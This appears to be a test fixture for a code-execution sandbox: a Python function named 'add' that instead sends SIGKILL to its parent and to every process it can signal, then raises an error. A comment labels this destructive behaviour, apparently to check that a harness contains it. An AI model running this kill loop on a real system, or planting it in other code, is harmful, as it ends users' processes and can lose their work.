# expect: error
# Sends SIGKILL to every process it may signal, and to its parent.
import os
import signal


def add(a, b):
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("still here")
